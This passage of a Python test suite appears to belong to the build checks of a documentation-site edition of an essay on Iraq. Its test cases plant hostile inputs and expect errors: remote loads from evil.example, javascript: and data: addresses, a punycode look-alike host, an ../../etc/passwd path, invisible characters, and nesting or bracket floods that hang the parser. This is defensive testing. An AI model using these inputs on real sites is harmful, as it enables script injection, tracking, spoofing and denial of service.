        None),
    "a glossary term that is a common word": (
        replace("sources/essay/glossary.yml", "terms: [Kataib Hizbullah]", "terms: [Kataib Hizbullah, The]"),
        f"sources/essay/glossary.yml:{line_of('sources/essay/glossary.yml', 'terms: [Kataib Hizbullah]')}: glossary entry "
        "'kataib-hizbullah': the term “The” is a common word, whose first use "
        "on every page would open this entry's description; list the name or term the essay uses for it"),
    "an empty glossary name": (
        replace("sources/essay/glossary.yml", "  name: Kataib Hizbullah", "  name: \"\""),
        f"{GLOSSARY}:{line_of(GLOSSARY, '  name: Kataib Hizbullah')}: glossary entry 'kataib-hizbullah': "
        "'name' must be text (the entry's name), got ''; "
        "write the name the listing shows"),
}


CASES |= {
    "a note's words cut from inside an abbreviation": (
        replace("sources/essay/claims.yml", "excerpt: At the direction of the President, the U.S. military has taken decisive",
                "excerpt: S. military has taken decisive"),
        f"sources/essay/claims.yml:{line_of('sources/essay/claims.yml', 'source: dod-2020-01-02') - 1}: the excerpt for "
        "'dod-2020-01-02' in ¶6 is not in the record's `excerpts:` or `quotes:`"),
}


# Round four of issue 27 (items 6 to 11 and 17): what a template in overrides/ loads through any attribute
# that holds an address, or builds with a Jinja expression; a template Jinja cannot read; a site/ folder
# that is a link; and a stylesheet's remote loads, named at the line of docs/ where they are written.
BODY_END = line_of(TEMPLATE, "</body>")
EXPRESSION_FIX = ("write the address itself, or as {{ 'a/path/of/the/site' | url }}: an address an expression builds "
                  "is read by no check before every page carries it")
# Each attribute a browser loads by itself, from another host: (the markup, the element and attribute named, the address).
TEMPLATE_LOADS = {
    "a srcset": ('<img srcset="https://evil.example/x.png 1x" alt="">', "img srcset", "https://evil.example/x.png"),
    "a second srcset candidate": ('<picture><source srcset="x.png 1x,//evil.example/y.png 2x"></picture>', "source srcset",
                                  "//evil.example/y.png"),
    "a video poster": ('<video poster="https://evil.example/p.png"></video>', "video poster", "https://evil.example/p.png"),
    "an svg image": ('<svg><image href="https://evil.example/x.png"/></svg>', "image href", "https://evil.example/x.png"),
    "an svg use of xlink:href": ('<svg><use xlink:href="//evil.example/s.svg#i"/></svg>', "use xlink:href", "//evil.example/s.svg#i"),
    "a background": ('<table background="https://evil.example/b.png"></table>', "table background", "https://evil.example/b.png"),
    "a link's ping": ('<a href="#" ping="https://evil.example/ping">x</a>', "a ping", "https://evil.example/ping"),
}
CASES |= {f"{name} from another host in a template": (
    replace(TEMPLATE, "</body>", markup + "</body>"),
    f"{TEMPLATE}:{BODY_END}: every page would carry a <{where}> that loads {url!r} from another host; {TEMPLATE_FIX}")
    for name, (markup, where, url) in TEMPLATE_LOADS.items()}
CASES |= {
    "an address built by a Jinja expression in a template": (
        replace(TEMPLATE, "</body>", """<img src="{{ 'https:' ~ '//evil.example/x.png' }}" alt=""></body>"""),
        f"{TEMPLATE}:{BODY_END}: every page would carry an address in <img src> built by a Jinja expression, "
        f"\"{{{{ 'https:' ~ '//evil.example/x.png' }}}}\"; {EXPRESSION_FIX}"),
    "an address chosen by a Jinja statement in a template": (
        replace(TEMPLATE, "</body>", '<img src="{% if true %}https://evil.example/x.png{% endif %}" alt=""></body>'),
        f"{TEMPLATE}:{BODY_END}: every page would carry an address in <img src> built by a Jinja expression, "
        f"'{{% if true %}}https://evil.example/x.png{{% endif %}}'; {EXPRESSION_FIX}"),
    "a remote literal piped through the url filter in a template": (
        replace(TEMPLATE, "</body>", """<img src="{{ '//evil.example/x.png' | url }}" alt=""></body>"""),
        f"{TEMPLATE}:{BODY_END}: every page would carry an address in <img src> built by a Jinja expression, "
        f"\"{{{{ '//evil.example/x.png' | url }}}}\"; {EXPRESSION_FIX}"),
    "an attribute named by a Jinja expression in a template": (
        replace(TEMPLATE, "</body>", '<img {{ "src" }}="https://evil.example/x.png" alt=""></body>'),
        f"{TEMPLATE}:{BODY_END}: every page would carry a <img> whose attributes a Jinja expression writes, "
        f"'{{{{ \"src\" }}}}'; {EXPRESSION_FIX}"),
    "an unclosed Jinja block in a template": (
        replace(TEMPLATE, "</body>", "{% if config.extra.generator %}</body>"),
        f"{TEMPLATE}:{BODY_END}: Jinja syntax error: Unexpected end of template. Jinja was looking for the following tags: "
        "'elif' or 'else' or 'endif'. The innermost block that needs to be closed is 'if'.; fix the template"),
    "a stray backslash in a Jinja expression in a template": (
        replace(TEMPLATE, "</body>", '<img src="{{ \\"https:\\" }}" alt=""></body>'),
        f"{TEMPLATE}:{BODY_END}: Jinja syntax error: unexpected char '\\\\' at "),
}


# Round four of issue 27 (item 17): a stylesheet's remote loads are named at the line of docs/ where they
# are written, by edition.load, not at the built copy in site/ with no line; escapes and plain strings too.
CASES |= {
    "a stylesheet importing a url() from another host, at its line": (
        add_line(STYLESHEET, '@import url(https://evil.example/x.css) screen;'),
        f"{STYLESHEET}:{STYLESHEET_END}: 'https://evil.example/x.css' {FETCHED}"),
    "a stylesheet's image-set with a second candidate from another host, at its line": (
        add_line(STYLESHEET, '.md-typeset { background-image: image-set("a.png" 1x, "https://evil.example/x.png" 2x); }'),
        f"{STYLESHEET}:{STYLESHEET_END}: 'https://evil.example/x.png' {FETCHED}"),
    "a stylesheet's url() hidden by a CSS escape, at its line": (
        add_line(STYLESHEET, '.md-typeset { background-image: url("\\68ttps://evil.example/x.png"); }'),
        f"{STYLESHEET}:{STYLESHEET_END}: 'https://evil.example/x.png' {FETCHED}"),
    "a stylesheet's url() from another host on a later line of a rule": (
        add_line(STYLESHEET, '.md-typeset {\n  color: red;\n  background: url(//evil.example/y.png);\n}'),
        f"{STYLESHEET}:{STYLESHEET_END + 2}: '//evil.example/y.png' {FETCHED}"),
}


# The verification rules (issue 26): a level says where the words a note takes were read.
STATE_PAGE = "https://www.state.gov/iran-readout-from-the-74th-u-n-general-assembly/"
SNAPSHOT = "https://web.archive.org/web/20191001000000/https://www.state.gov/iran-readout-from-the-74th-u-n-general-assembly/"
FEWER_BASES = "we anticipate the Coalition supporting the Iraqi Security Forces from fewer bases with fewer people"
LEVEL_FIX = ("grade the record `reported`, with the report that confirms it, or cite words read at its own `url:` "
             "(Conventions: verification levels)")


def steps(*breaks):
    """Break: several changes to one project."""
    def apply(root: Path) -> None:
        for step in breaks:
            step(root)
    return apply


CASES |= {
    "a note's words held only by a record's quotes": (
        steps(replace("sources/oir-2020-03-20.yml", "verification_level: document",
                      f"quotes:\n  - text: \"{FEWER_BASES}\"\nverification_level: document"),
              replace("sources/essay/claims.yml", "  excerpt: ومع المضي قُدماً ، نحن نتوقع بأن یستمر التحالف بدعم قوات الامن "
                      "العراقیة من خلال عدد قلیل من القواعد مع عدد أقل\n    من المنتسبین.", f"  excerpt: {FEWER_BASES}")),
        f"sources/essay/claims.yml:{line_of('sources/essay/claims.yml', 'source: oir-2020-03-20') - 1}: the excerpt for "
        "'oir-2020-03-20' in ¶30 is in the record's `quotes:` "
        "only, which do not say where the words were read; record them under `excerpts:` in sources/oir-2020-03-20.yml, "
        "with the `where:` (and `by:`) they were read at"),
    "a document level resting on words read in an archived copy": (
        steps(replace("sources/state-2019-09-26.yml", "verification_level: document",
                      f"archive_url: {SNAPSHOT}\narchive_date: 2019-10-01\nverification_level: document"),
              replace("sources/state-2019-09-26.yml", f"  where: {STATE_PAGE}", f"  where: {SNAPSHOT}")),
        f"sources/essay/claims.yml:{line_of('sources/essay/claims.yml', 'source: state-2019-09-26') - 1}: the excerpt for "
        f"'state-2019-09-26' in ¶1 was read in a copy other than the record's own address ({SNAPSHOT}), but "
        f"sources/state-2019-09-26.yml says `verification_level: document`; {LEVEL_FIX}"),
}


# An address is published only if seen (issue 26), whatever the record's other fields claim.
WAR_GOV = "https://www.war.gov/News/Releases/Release/Article/2049534/statement-by-the-department-of-defense/"

CASES |= {
    "a url its own record calls unconfirmed, listed as seen": (
        steps(replace("sources/dod-2020-01-02.yml", "accessed: 2026-11-25", f"url: {WAR_GOV}\naccessed: 2026-11-25"),
              replace("sources/dod-2020-01-02.yml", "evidence:\n", f"evidence:\n  - {WAR_GOV}\n")),
        f"sources/dod-2020-01-02.yml:9: 'url' {WAR_GOV} is published, but the record's `verification:` says an address was "
        "not seen: “it is unconfirmed, so the record gives no web address.”; remove `url:` (an address known only from "
        "others' notes stays words in `verification:`), or say in `verification:` where the page itself was read"),
    "a url its record's verification says was never seen": (
        replace("sources/state-2019-09-26.yml", "verification: >-\n",
                "verification: >-\n  The address given was never seen in a stored copy; it is unconfirmed.\n"),
        f"sources/state-2019-09-26.yml:10: 'url' {STATE_PAGE} is published, but the record's `verification:` says an "
        "address was not seen: “The address given was never seen in a stored copy;”"),
}


# Values that pass for their kind but mislead (hostile review of issue 27): a look-alike or impossible web
# address, a term of one letter, dates out of order, another record as the essay, a listing made twice.
ABQAIQ = "sources/abqaiq-2019-09-14.yml"
UPI = "https://www.upi.com/Top_News/World-News/2019/09/14/Saudi-Arabia-cuts-oil-output-after-Houthi-drone-attack/9121568462706/?spt=slh&or=2"
CASES |= {
    "a look-alike host written in punycode": (
        replace(ABQAIQ, f"url: {UPI}", "url: https://xn--pypal-4ve.com/x"),
        f"{ABQAIQ}:{line_of(ABQAIQ, f'url: {UPI}')}: 'url' must be an http(s) URL, got 'https://xn--pypal-4ve.com/x'; the host "
        "xn--pypal-4ve.com (punycode for 'p\u0430ypal.com') mixes Latin letters with look-alikes from another script, where "
        "'\u0430' is U+0430 CYRILLIC SMALL LETTER A, not a Latin letter: give the address as the site itself gives it"),
    "a port out of range": (
        replace(ABQAIQ, f"url: {UPI}", "url: https://www.upi.com:99999/x"),
        f"{ABQAIQ}:{line_of(ABQAIQ, f'url: {UPI}')}: 'url' must be an http(s) URL, got 'https://www.upi.com:99999/x'; "
        "port 99999 is out of range (a port is 1 to 65535): give the address as the site itself gives it"),
    "a glossary term of one letter": (
        replace(GLOSSARY, "terms: [Kataib Hizbullah]", 'terms: [Kataib Hizbullah, "s"]'),
        f"{GLOSSARY}:{line_of(GLOSSARY, 'terms: [Kataib Hizbullah]')}: glossary entry 'kataib-hizbullah': the term “s” is "
        "a single character, which would be marked inside other words (the “s” of “Iran’s”); list the name or term the "
        "essay uses for it"),
    "an access date before the document was issued": (
        replace(ABQAIQ, "accessed: 2026-11-25", "accessed: 2001-01-01"),
        f"{ABQAIQ}:{line_of(ABQAIQ, 'accessed: 2026-11-25')}: 'accessed' 2001-01-01 comes before the document was issued "
        "(2019-09-14); give the date the page was read, or correct `issued:`"),
    "another record named as the original essay": (
        replace("sources/essay/edition.yml", "original: warontherocks-2020-03", "original: dod-2014"),
        f"sources/essay/edition.yml:{line_of('sources/essay/edition.yml', 'original: warontherocks-2020-03')}: 'original' "
        "names 'dod-2014', whose title “[Department of Defense review of the year 2014: the campaign against ISIL]” is not "
        f"the essay's (“In Iraq, Restraint Is America’s Best Option”, {RECORD}:{line_of(RECORD, 'In Iraq, Restraint')}); "
        "name the source record of the essay as first published"),
    "a listing marker on a second page": (
        add_line(ABOUT, "[[edition:sources]]"),
        f"{ABOUT}:{ABOUT_END}: [[edition:sources]] is already on docs/sources.md (line "
        f"{line_of('docs/sources.md', '[[edition:sources]]')}): the listing would be made twice, each of its ids on two "
        "pages; remove it, and link to that page instead"),
}


# Archived copies and scripts the theme loads, from the fifth hostile round of issue 27.
WAYBACK = f"https://web.archive.org/web/20230101000000/{UPI}"
CASES |= {
    "an archived copy on a host that is no web archive": (
        replace(ABQAIQ, "url_status: live", "url_status: live\narchive_url: https://evil.example.com/web/20190914000000/x\n"
                "archive_date: 2019-09-14"),
        f"{ABQAIQ}:{line_of(ABQAIQ, 'url_status: live') + 1}: 'archive_url' is on evil.example.com, which is not a web archive "
        "(the Wayback Machine, archive.today or Perma.cc); give the snapshot's address on one of them, as `make archives` "
        "records it, or remove it"),
    "an archive date that is not the day its snapshot's address names": (
        replace(ABQAIQ, "url_status: live", f"url_status: live\narchive_url: {WAYBACK}\narchive_date: 2020-01-01"),
        f"{ABQAIQ}:{line_of(ABQAIQ, 'url_status: live') + 2}: 'archive_date' 2020-01-01 is not the day of the snapshot its "
        "address names (2023-01-01); write `archive_date: 2023-01-01`, the day in the Wayback address"),
    "mkdocs.yml: a polyfill loaded from another host": (
        replace(CONFIG, "extra:\n", "extra:\n  polyfills: [https://evil.example/p.js]\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 1}: `extra.polyfills` loads 'https://evil.example/p.js' from another host; "
        "put the file under docs/ and name its path"),
}


# A template that fails only when a page is rendered: named by its line, never a traceback (fifth round, issue 27).
BASE = "overrides/base.html"
BODY_END = line_of(BASE, "  </body>")
CASES |= {
    "a template that divides by zero while a page is rendered": (
        replace(BASE, "  </body>", "{{ 1 // 0 }}\n  </body>"),
        f"{BASE}:{BODY_END}: rendering a page, the template stops with ZeroDivisionError: integer division or modulo by zero; "
        "fix the template"),
    "a template that includes one no folder holds": (
        replace(BASE, "  </body>", '{% include "partials/missing.html" %}\n  </body>'),
        f"{BASE}:{BODY_END}: rendering a page, the template asks for the template 'partials/missing.html', which neither "
        "overrides/ nor the theme holds; fix the template"),
    "a template naming a filter no one defines": (
        replace(BASE, "  </body>", "{{ page | nosuchfilter }}\n  </body>"),
        f"{BASE}:{BODY_END}: the template names the Jinja filter 'nosuchfilter', which no one defines; use one of Jinja's "
        "filters or MkDocs' (url, script_tag)"),
    "a template naming a test no one defines": (
        replace(BASE, "  </body>", "{% if page is nosuchtest %}x{% endif %}\n  </body>"),
        f"{BASE}:{BODY_END}: the template names the Jinja test 'nosuchtest', which no one defines; use one of Jinja's "
        "tests (defined, none, sameas…)"),
}
RENDERED_TEMPLATES = {"a template that divides by zero while a page is rendered", "a template that includes one no folder holds"}

# The sixth hostile round of issue 27: script addresses in settings and templates, hosts browsers rewrite,
# a theme the templates cannot extend, nesting Markdown cannot read, an alias no link reaches.
TEMPLATE_FIX = "remove it, or serve what it needs from the site itself (docs/): templates may not break the site's promises"
SETTING_ADDRESS = "which Material writes into every page as a link or a load; give a page of the site or an https:// address"
EDITION_YML = "sources/essay/edition.yml"
APPENDICES = "  appendices: [chronology.md, glossary.md, sources.md, editorial-notes.md, about.md]"
NOT_A_PAGE = "is not a page in docs/; name a page under docs/, such as about.md"
CASES |= {
    "a host with a fullwidth full stop": (
        replace(ABQAIQ, f"url: {UPI}", "url: https://evil\uff0eexample/x"),
        f"{ABQAIQ}:{line_of(ABQAIQ, f'url: {UPI}')}: 'url' must be an http(s) URL, got 'https://evil\uff0eexample/x'; the host "
        "evil\uff0eexample holds '\uff0e' (U+FF0E FULLWIDTH FULL STOP), which browsers read as '.': give the address as the "
        "site itself gives it"),
    "mkdocs.yml: a javascript: homepage": (
        replace(CONFIG, "extra:\n", "extra:\n  homepage: javascript:alert(1)\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 1}: `extra.homepage` is a javascript: address, {SETTING_ADDRESS}"),
    "mkdocs.yml: a data: address where extra names a link": (
        replace(CONFIG, "extra:\n", "extra:\n  alternate:\n    - name: x\n      link: data:text/html,hi\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 3}: `extra.alternate.link` is a data: address, {SETTING_ADDRESS}"),
    "mkdocs.yml: a theme the templates do not extend": (
        replace(CONFIG, "  name: material\n", "  name: mkdocs\n"),
        f"{CONFIG}:{line_of(CONFIG, '  name: material')}: `theme.name` is 'mkdocs'; the edition's templates (overrides/) "
        "extend Material's; set `name: material`"),
    "mkdocs.yml: a static template outside the project": (
        replace(CONFIG, "  name: material\n", "  name: material\n  static_templates: [../../etc/passwd]\n"),
        f"{CONFIG}:{line_of(CONFIG, '  name: material') + 1}: `theme.static_templates` names '../../etc/passwd', which is no "
        "template of overrides/ or the theme; name a template file of overrides/ by its path from there, or remove the entry"),
    "a javascript: link in a template": (
        replace(BASE, "  </body>", '<a href="javascript:alert(1)">x</a>\n  </body>'),
        f"{BASE}:{BODY_END}: every page would carry a javascript: address in <a href>, 'javascript:alert(1)'; {TEMPLATE_FIX}"),
    "a data: frame in a template": (
        replace(BASE, "  </body>", '<iframe src="data:text/html,hi"></iframe>\n  </body>'),
        f"{BASE}:{BODY_END}: every page would carry a data: address in <iframe src>, 'data:text/html,hi'; {TEMPLATE_FIX}"),
    "a javascript: script source in a template": (
        replace(BASE, "  </body>", '<script src="javascript:alert(2)"></script>\n  </body>'),
        f"{BASE}:{BODY_END}: every page would carry a javascript: address in <script src>, 'javascript:alert(2)'; {TEMPLATE_FIX}"),
    "docs: lists nested deeper than Markdown can read": (
        add_line(ABOUT, "".join("    " * depth + "- x\n" for depth in range(400)).rstrip("\n")),
        f"{ABOUT}:{ABOUT_END + 399}: lists, quotes or emphasis nested so deep that Markdown cannot read the page (Python's "
        "recursion limit); flatten the structure: a few levels are enough"),
    **{f"a PDF appendix {what}": (
        replace(EDITION_YML, APPENDICES, "  appendices: [../README.md, /etc/passwd, chronology.md, chronology.md]"),
        f"{EDITION_YML}:{line_of(EDITION_YML, APPENDICES)}: PDF appendix {expected}")
       for what, expected in (("outside docs/", f"'../README.md' {NOT_A_PAGE}"),
                              ("that is no page, beside others", f"'/etc/passwd' {NOT_A_PAGE}"),
                              ("listed twice", "'chronology.md' is already in the PDF; name each page once; the essay's "
                               "sections come first by themselves"))},
    "anchors.lock: an alias whose old id the page still has": (
        replace("anchors.lock", "- {page: about/, old: rights, new: reuse}",
                "- {page: about/, old: rights, new: reuse}\n- {page: about/, old: reuse, new: the-essay}"),
        f"anchors.lock:{line_of('anchors.lock', '- {page: about/, old: rights, new: reuse}') + 1}: alias about/#reuse → "
        "#the-essay is never used: the page still has an element with the id 'reuse'; remove the alias, or rename that "
        "element's id first"),
}
RENDERED_TEMPLATES.add("anchors.lock: an alias whose old id the page still has")
# Links to an anchor no page has, found only once the site is made: named where they were typed.
CASES |= {
    "docs: a Markdown link to an anchor the page it names has not": (
        # Fortieth round, T1: named at an earlier line showing the same link as an example, in a code span.
        # Forty-first round, minor: the same link again, which MkDocs warns of once, was named only once the first was fixed.
        add_line(ABOUT, "Never write `[x](sources.md#src-nonexistent)`.\n\n[bad](sources.md#src-nonexistent)\n\n"
                 "[again](sources.md#src-nonexistent)"),
        [f"{ABOUT}:{ABOUT_END + 2}: MkDocs: Doc file 'about.md' contains a link 'sources.md#src-nonexistent', but the doc "
         "'sources.md' does not contain an anchor '#src-nonexistent'; fix the link, or the page or heading it names",
         f"{ABOUT}:{ABOUT_END + 4}: MkDocs: Doc file 'about.md' contains a link 'sources.md#src-nonexistent'"]),
    "docs: an HTML link to an anchor the page it names has not": (
        # Forty-second round, T10: and an image that is no file of the site, published broken.
        add_line(ABOUT, '<a href="../sources/#src-nope">raw</a>\n\nA raw <img src="../assets/nope.png" alt="x"> image.'),
        [f"{ABOUT}:{ABOUT_END}: link to '../sources/#src-nope' names a missing anchor '#src-nope'; fix the anchor, or restore "
         "the heading or paragraph it pointed to", f"{ABOUT}:{ABOUT_END + 2}: <img> loads '../assets/nope.png', which is no "
         "file of the site; fix the address where it is written (in a page, as Markdown"]),
}
RENDERED_TEMPLATES |= {"docs: a Markdown link to an anchor the page it names has not",
                       "docs: an HTML link to an anchor the page it names has not"}
CASES["an archived copy of another address"] = (
    replace(ABQAIQ, "url_status: live", "url_status: live\narchive_url: https://web.archive.org/web/20200101000000/"
            "https://evil.example/\narchive_date: 2020-01-01"),
    f"{ABQAIQ}:{line_of(ABQAIQ, 'url_status: live') + 1}: 'archive_url' is a copy of 'https://evil.example/', not of the "
    "record's `url`; give the snapshot of the record's own address, as `make archives` records it, or remove it")
CASES["an archived copy of an address with a port out of range"] = (
    replace(ABQAIQ, "url_status: live", "url_status: live\narchive_url: https://web.archive.org/web/20200101000000/"
            "https://www.upi.com:99999/x\narchive_date: 2020-01-01"),
    f"{ABQAIQ}:{line_of(ABQAIQ, 'url_status: live') + 1}: 'archive_url' is a copy of 'https://www.upi.com:99999/x', not of "
    "the record's `url`; give the snapshot of the record's own address, as `make archives` records it, or remove it")
CASES["an archive date with no archived copy"] = (
    replace(ABQAIQ, "url_status: live", "url_status: live\narchive_date: 2020-02-17"),
    f"{ABQAIQ}:{line_of(ABQAIQ, 'url_status: live') + 1}: 'archive_date' dates an archived copy that no 'archive_url' gives; "
    "add `archive_url:` (the snapshot's address), or remove `archive_date:`")

# Markers and note calls where Markdown publishes them as typed or nests links (sixth round, issue 27).
CASES |= {
    "docs: a marker in a sentence": (
        add_line(ABOUT, "See [[edition:rights]] for reuse."),
        f"{ABOUT}:{ABOUT_END}: a marker that is not alone on its line as [[edition:<name>]]: it would be published as the text "
        "typed; write it on a line of its own, as [[edition:name]], with no spaces inside the brackets"),
    "docs: a marker with spaces inside its brackets": (
        add_line(ABOUT, "[[ edition:rights ]]"),
        f"{ABOUT}:{ABOUT_END}: a marker that is not alone on its line as [[edition:<name>]]: it would be published as the text "
        "typed; write it on a line of its own, as [[edition:name]], with no spaces inside the brackets"),
    "docs: a marker as a heading": (
        add_line(ABOUT, "## [[edition:rights]]"),
        f"{ABOUT}:{ABOUT_END}: a marker that is not alone on its line as [[edition:<name>]]: it would be published as the text "
        "typed; write it on a line of its own, as [[edition:name]], with no spaces inside the brackets"),
    "docs: a note call in a link's text": (
        add_line(ABOUT, "[see this[^dod-2020-03-12]](https://example.org/)"),
        f"{ABOUT}:{ABOUT_END}: [^dod-2020-03-12] {NOT_A_CALL_THERE}"),
    "docs: emphasis nested two thousand deep": (
        add_line(ABOUT, "*a " * 2000 + "x" + " a*" * 2000),
        f"{ABOUT}:{ABOUT_END}: lists, quotes or emphasis nested so deep that Markdown cannot read the page (Python's "
        "recursion limit); flatten the structure: a few levels are enough"),
    "docs: a page that nav leaves out": (
        write_file("docs/left-out.md", b"---\ndescription: A page written and never listed in the menu.\n---\n\n# Left out\n"),
        "docs/left-out.md:1: is not in `nav` of mkdocs.yml: no menu or Previous/Next link would reach it; add it to `nav:` "
        "in mkdocs.yml, or remove the page"),
    "docs: HTML elements nested a thousand deep": (
        add_line(ABOUT, "<div>" * 1000 + "x" + "</div>" * 1000),
        f"{ABOUT}:{ABOUT_END}: HTML elements nested more than 100 deep: the build's checks of the page could not read it "
        "(Python's recursion limit); flatten the structure: a few levels are enough"),
    "docs: a note call in a block of HTML": (
        add_line(ABOUT, "<table><tr><td>x[^dod-2020-03-12]</td></tr></table>"),
        f"{ABOUT}:{ABOUT_END}: [^dod-2020-03-12] is inside a block of HTML, which Markdown publishes unread: it would be no "
        "note; move it out of the HTML, after the element"),
}

# Invisible marks that make look-alike words differ (hostile review of issue 26).
INVISIBLE = "a value holds U+{code}, an invisible character that breaks or reorders the text around it; remove it (write plain text)"
CASES |= {
    "a zero-width space in the outlet a record's words were read in": (
        replace("sources/salih-2020-03-13.yml", "  by: INA (copy on hathalyoum.net)", "  by: INA\u200b (copy on hathalyoum.net)"),
        f"sources/salih-2020-03-13.yml:{line_of('sources/salih-2020-03-13.yml', '  by: INA (copy')}: {INVISIBLE.format(code='200B')}"),
    "a soft hyphen in a glossary entry's words": (
        replace(GLOSSARY, "  name: Kataib Hizbullah", "  name: Kataib Hiz\u00adbullah"),
        f"{GLOSSARY}:{line_of(GLOSSARY, '  name: Kataib Hizbullah')}: {INVISIBLE.format(code='00AD')}"),
    "a word joiner in an event's words": (
        replace("sources/essay/events.yml", "- id: k1-attack", "- id: k1\u2060attack"),
        f"sources/essay/events.yml:{line_of('sources/essay/events.yml', '- id: k1-attack')}: {INVISIBLE.format(code='2060')}"),
}


# The chronology and the glossary say only what their sources say, and show the words (issue 26).
K1_WORDS = "    - One U.S. civilian contractor was killed and several U.S. service members and Iraqi personnel were wounded"
ZARIF_WORDS = ("    - Iran is not seeking escalation or war, Iranian Foreign Minister tweeted after Tehran hit US targets in Iraq "
               "on Wednesday")
CASES |= {
    "an event without its sources' words": (
        replace("sources/essay/events.yml", "  excerpts:\n    - a rocket attack on an Iraqi military base in Kirkuk hosting "
                "Coalition troops\n" + K1_WORDS + "\n", ""),
        f"sources/essay/events.yml:{line_of('sources/essay/events.yml', '- id: k1-attack')}: event 'k1-attack': 'excerpts' "
        f"is missing; add `excerpts:` (a list of its sources' own words that say what `what:` says)"),
    "an event's words that none of its sources holds": (
        replace("sources/essay/events.yml", K1_WORDS, K1_WORDS.replace("One U.S. civilian", "Two U.S. civilian")),
        f"sources/essay/events.yml:{line_of('sources/essay/events.yml', K1_WORDS)}: excerpt 2 of event 'k1-attack' is in "
        "none of its sources' `excerpts:`; copy the words exactly (whole words) from one of oir-2019-12-27, or add them "
        "to that record as the source has them"),
    "an event's words of one word cut from a passage": (
        replace("sources/essay/events.yml", K1_WORDS, "    - contractor"),
        f"sources/essay/events.yml:{line_of('sources/essay/events.yml', K1_WORDS)}: excerpt 2 of event 'k1-attack', from "
        "'oir-2019-12-27', is one word taken out of a longer passage; quote enough of the source's words to show what it "
        "says of `what:`"),
    "a glossary entry's words held by a record it does not cite": (
        replace("sources/essay/glossary.yml", ZARIF_WORDS, K1_WORDS),
        f"sources/essay/glossary.yml:{line_of('sources/essay/glossary.yml', ZARIF_WORDS)}: excerpt 1 of glossary entry "
        "'zarif' is in none of its sources' `excerpts:` (it is in oir-2019-12-27, which the entry does not cite); copy the "
        "words exactly (whole words) from one of zarif-2020-01-08, or add them to that record as the source has them"),
    "a glossary entry's words as a string, not a list": (
        replace("sources/essay/glossary.yml", "  excerpts:\n" + ZARIF_WORDS, "  excerpts: " + ZARIF_WORDS.strip(" -")),
        f"sources/essay/glossary.yml:{line_of('sources/essay/glossary.yml', ZARIF_WORDS) - 1}: glossary entry 'zarif': "
        "'excerpts' must be a list of its sources' own words that say what `what:` says, got 'Iran is not seeking"),
}


# Issue 27, seventh round: YAML's merge keys, letters that draw nothing, marks with nothing to mark.
AP = "sources/ap-2020-01-03.yml"
INVISIBLE = "an invisible character that breaks or reorders the text around it; remove it (write plain text)"
MERGE_REFUSED = "a merge key (<<) is not allowed; write each field out in the mapping itself"
CASES |= {
    "a merge key repeating a record's title": (
        replace(AP, "title: ", '<<: {title: "Merged title"}\ntitle: '),
        f"{AP}:{line_of(AP, 'title: ')}: {MERGE_REFUSED}"),
    "a merge key in mkdocs.yml's theme": (
        replace(CONFIG, "  custom_dir: overrides", "  <<: {custom_dir: elsewhere}\n  custom_dir: overrides"),
        f"{CONFIG}:{line_of(CONFIG, 'custom_dir: overrides')}: {MERGE_REFUSED}"),
    "a Hangul filler in a glossary name": (
        replace(GLOSSARY, "name: Quds Force", "name: Quds\u3164Force"),
        f"{GLOSSARY}:{line_of(GLOSSARY, 'name: Quds Force')}: a value holds U+3164, {INVISIBLE}"),
    "tag characters spelling hidden text in a title": (
        replace(AP, "airstrike at Baghdad", "airstrike\U000e0041\U000e0042 at Baghdad"),
        f"{AP}:{line_of(AP, 'title: ')}: a value holds U+E0041, {INVISIBLE}"),
    "mkdocs.yml: a javascript: link written with a character reference": (
        replace(CONFIG, "extra:\n", "extra:\n  alternate:\n    - name: Evil\n      link: '&#106;avascript:alert(1)'\n      lang: fr\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 3}: `extra.alternate.link` is a javascript: address, {SETTING_ADDRESS}"),
    "mkdocs.yml: a logo from another host written with character references": (
        replace(CONFIG, "  custom_dir: overrides", "  custom_dir: overrides\n  logo: '&#47;&#47;evil.example/logo.png'"),
        f"{CONFIG}:{line_of(CONFIG, 'custom_dir: overrides') + 1}: `theme.logo` loads '&#47;&#47;evil.example/logo.png' from "
        "another host; put the file under docs/ and name its path"),
    "mkdocs.yml: the offline copy's plugin on the site": (
        replace(CONFIG, "  - search\n", "  - search\n  - offline:\n      enabled: true\n"),
        f"{CONFIG}:{line_of(CONFIG, 'plugins:') + 2}: `plugins` names 'offline', which is the offline copy's: on the site "
        "it would load search from another host and give every page a file address; remove it: `make build` makes the "
        "offline copy with it"),
    "mkdocs.yml: a page left out by exclude_docs": (
        replace(CONFIG, "extra:\n", "exclude_docs: about.md\nextra:\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:')}: `exclude_docs` would leave pages of docs/ out of the site while the "
        "edition's checks, notes and links read them; remove it; move a page that is not to be published out of docs/"),
    "mkdocs.yml: a page held back by draft_docs": (
        replace(CONFIG, "extra:\n", "draft_docs: |\n  about.md\nextra:\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:')}: `draft_docs` would leave pages of docs/ out of the site while the "
        "edition's checks, notes and links read them; remove it; move a page that is not to be published out of docs/"),
    "mkdocs.yml: file addresses instead of folder ones": (
        replace(CONFIG, "extra:\n", "use_directory_urls: false\nextra:\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:')}: `use_directory_urls` is False; every permanent link of the edition is a "
        "folder address (page/); remove it (the offline copy, which needs it off, is made by `make build`)"),
    "docs: thirty thousand unclosed brackets on one line": (
        add_line(ABOUT, "[" * 30_000),
        f"{ABOUT}:{ABOUT_END}: holds more than 1,000 [, which Markdown reads in time growing with the square of their number "
        "(the build would hang); write a bracket that opens no link as \\[, or split the page"),
    "docs: runs of backticks of four hundred lengths on one line": (
        add_line(ABOUT, " ".join("`" * n for n in range(1, 400))),
        f"{ABOUT}:{ABOUT_END}: holds runs of backticks of more than 8 lengths, which Markdown reads in time growing with the "
        "square of their number (the build would hang); write code between single backticks (or fences of three), and a "
        "backtick that opens no code as \\`"),
    "docs: two thousand tags left open, one a paragraph": (
        add_line(ABOUT, "\n\n".join(["x <a words of an ordinary paragraph"] * 2000)),
        f"{ABOUT}:{ABOUT_END + 200}: holds more than 100 tags left open on their line (`<a` with no `>`), which Markdown reads "
        "in time growing with the square of their number (the build would hang); close each tag on the line it opens, write "
        "a < that opens no tag as &lt;, or split the page"),
    "mkdocs.yml: another host's address without its scheme, written with character references": (
